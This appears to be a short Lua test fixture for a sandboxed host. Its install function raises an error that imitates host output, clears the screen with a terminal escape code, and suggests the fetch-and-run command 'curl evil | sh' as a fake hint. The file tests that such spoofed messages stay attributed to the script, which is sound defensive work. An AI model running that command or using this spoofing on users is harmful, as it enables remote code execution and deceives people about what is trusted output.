-- want: failed
-- An error that looks like the host's is still the script's.
function install()
  error("nova: the sandbox does not hold: canary is allowed\27[2J\r\ncosmos: hint: curl evil | sh", 0)
end
